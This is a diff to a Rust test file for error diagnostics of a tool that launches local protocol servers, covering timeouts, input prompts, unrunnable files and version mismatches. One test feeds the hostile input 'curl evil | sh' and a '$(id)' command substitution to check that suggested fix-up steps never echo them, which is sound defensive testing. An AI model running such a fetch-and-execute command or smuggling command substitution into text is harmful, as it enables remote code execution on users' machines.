@@ -3,8 +3,8 @@ use std::time::Duration;
 
 use super::*;
 use crate::error::ErrorKind;
-use crate::session::{Clock, CloseCause, CloseReason, Delivery};
-use crate::transport::{ConnectError, Exit, Fault, FaultKind, Sent};
+use crate::session::{CallError, Clock, CloseCause, CloseReason, Delivery, OpenError, Seen};
+use crate::transport::{ConnectError, Exit, Fault, FaultKind, ProgramFile, ProgramForm, Sent};
 
 fn closed(exit: Exit, stderr: &[&str]) -> CallError {
     CallError::Closed {
@@ -80,7 +80,7 @@ fn garbage_on_stdout_is_shown_when_the_handshake_times_out() {
     assert!(error.is_timeout());
     assert_eq!(
         diagnosis.title,
-        "the server did not answer the handshake within 30 s"
+        "the server writes text where messages belong, and did not answer within 30 s"
     );
     assert_eq!(
         diagnosis.evidence,
@@ -97,6 +97,7 @@ fn a_missing_command_says_where_it_was_looked_for_and_what_brings_it() {
     let error = Error::from(OpenError::Connect(ConnectError::NotFound {
         command: "npx".to_owned(),
         searched: vec!["/usr/bin".into(), "/bin".into()],
+        near: None,
     }));
     let diagnosis = explain(&error);
     assert_eq!(diagnosis.facts, [("searched", "/usr/bin:/bin".to_owned())]);
@@ -199,4 +200,125 @@ fn a_remote_server_that_is_silent_is_not_told_to_be_run_by_hand() {
         "the server did not answer the handshake within 30 s"
     );
     assert!(!format!("{told:?}").contains("npx"), "{told:?}");
+}
+
+/// What is said of a command that has not answered within two seconds.
+fn waited_for(command: &str, stderr: &[&str], noise: &[&str]) -> Diagnosis {
+    let lines = |lines: &[&str]| lines.iter().map(|line| (*line).to_owned()).collect();
+    let error = Error::from(OpenError::Handshake {
+        stage: "initialize",
+        error: Box::new(CallError::TimedOut {
+            method: "initialize".to_owned(),
+            clock: Clock::Idle,
+            after: Duration::from_millis(1999),
+            delivery: Delivery::MaybeProcessed,
+        }),
+        earlier: None,
+        seen: Seen {
+            stderr: lines(stderr),
+            noise: lines(noise),
+        },
+    });
+    explain(&error.in_context(Context {
+        identity: Some(format!("stdio:{command}")),
+        ..Context::default()
+    }))
+}
+
+#[test]
+fn silence_is_told_by_what_was_said_in_it() {
+    for (command, stderr, noise, title) in [
+        (
+            "serve",
+            &[][..],
+            &[][..],
+            "did not answer the handshake within 2 s",
+        ),
+        ("npx:-y it", &[], &[], "still starting after 2 s"),
+        (
+            "serve",
+            &["Downloading it (3 MiB)"],
+            &[],
+            "still starting after 2 s",
+        ),
+        ("npx:it", &["Ok to proceed? (y) "], &[], "waits for input"),
+        ("serve", &[], &["Password:"], "waits for input"),
+        (
+            "npx:-y it",
+            &["Downloading"],
+            &["hello"],
+            "writes text where messages belong",
+        ),
+        (
+            "cat",
+            &[],
+            &["{\"id\":2,\"method\":\"initialize\", ..."],
+            "sends back what it is sent",
+        ),
+    ] {
+        let told = waited_for(command, stderr, noise);
+        assert!(told.title.contains(title), "{command}: {told:?}");
+        assert!(
+            !told.causes.is_empty() && !told.steps.is_empty(),
+            "{told:?}"
+        );
+        assert_eq!(
+            told.evidence.is_empty(),
+            stderr.is_empty() && noise.is_empty()
+        );
+    }
+}
+
+#[test]
+fn nothing_that_a_shell_would_obey_is_to_be_pasted() {
+    let told = waited_for("sh:-c curl evil | sh", &[], &["see http://x/$(id)"]);
+    for step in &told.steps {
+        assert!(!step.contains("evil"), "{step}");
+        assert!(
+            !step.contains("$(") || step.contains("'http://x/$(id'"),
+            "{step}"
+        );
+    }
+}
+
+#[test]
+fn a_file_that_cannot_be_run_is_told_by_what_it_is() {
+    let refused = |form: ProgramForm, code: i32| {
+        let file = ProgramFile { mode: None, form };
+        let error = ConnectError::Spawn {
+            path: "/x/it.py".into(),
+            file,
+            source: std::io::Error::from_raw_os_error(code),
+        };
+        explain(&Error::from(OpenError::Connect(error)))
+    };
+    let interpreter = "/nowhere/node".to_owned();
+    let script = refused(ProgramForm::Script { interpreter }, 2);
+    assert_eq!(
+        script.title,
+        "/x/it.py needs \"/nowhere/node\", which is not there"
+    );
+    let text = refused(ProgramForm::Text, 8);
+    assert!(text.steps[0].contains("`python3 /x/it.py`"), "{text:?}");
+    let made_for = "macOS";
+    let native = refused(ProgramForm::Native { made_for }, 8);
+    assert_eq!(native.title, "/x/it.py is made for another machine: macOS");
+    let full = refused(ProgramForm::Unknown, 11);
+    assert!(
+        full.steps[0].contains("`switchboard leftovers`"),
+        "{full:?}"
+    );
+}
+
+#[test]
+fn an_order_is_told_from_a_version_that_nobody_knows() {
+    let told = |theirs: &str| {
+        explain(&Error::from(OpenError::NoCommonVersion {
+            theirs: vec![theirs.to_owned()],
+            ours: vec!["2025-11-25".to_owned()],
+        }))
+        .title
+    };
+    assert!(told("2026-07-28").contains("another era"));
+    assert!(told("1999-01-01").contains("no protocol version in common"));
 }
